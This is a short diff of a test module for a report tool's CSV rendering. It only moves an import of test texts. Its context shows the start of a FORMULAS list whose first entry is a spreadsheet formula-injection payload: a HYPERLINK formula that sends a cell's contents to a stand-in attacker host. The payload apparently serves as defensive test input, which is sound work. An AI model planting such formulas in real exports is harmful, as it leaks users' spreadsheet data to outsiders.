@@ -20,7 +20,8 @@ from pitchcoach.core.report import (
     render_csv,
     write_report_bytes,
 )
-from tests.core.report.helpers import T0, TEXTS
+from tests.core.report.helpers import T0
+from tests.speech import TEXTS
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
